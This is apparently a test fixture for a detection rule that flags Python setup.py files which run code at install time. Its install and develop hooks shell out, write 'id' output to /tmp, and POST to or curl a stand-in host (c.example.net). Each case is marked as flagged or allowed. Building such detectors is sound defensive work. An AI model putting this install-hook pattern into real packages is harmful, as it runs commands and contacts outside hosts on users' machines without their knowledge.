import os
import subprocess

import requests
from setuptools import setup
from setuptools.command.develop import develop
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        # ruleid: python-setup-runs-code
        os.system("id > /tmp/x")
        # ruleid: python-setup-runs-code
        requests.post("https://c.example.net", data={"h": "a"}, timeout=5)
        # ruleid: python-setup-runs-code
        subprocess.Popen("sh -c id", shell=True)


class PostDevelop(develop):
    def run(self):
        # ruleid: python-setup-runs-code
        subprocess.run(["curl", "https://c.example.net"])
        # ok: python-setup-runs-code
        subprocess.check_call(["make", "-C", "native"])
        # ok: python-setup-runs-code
        super().run()


class Client(Base):
    def run(self):
        # ok: python-setup-runs-code
        requests.get("https://example.com", timeout=5)


setup(name="shop", cmdclass={"install": PostInstall, "develop": PostDevelop})
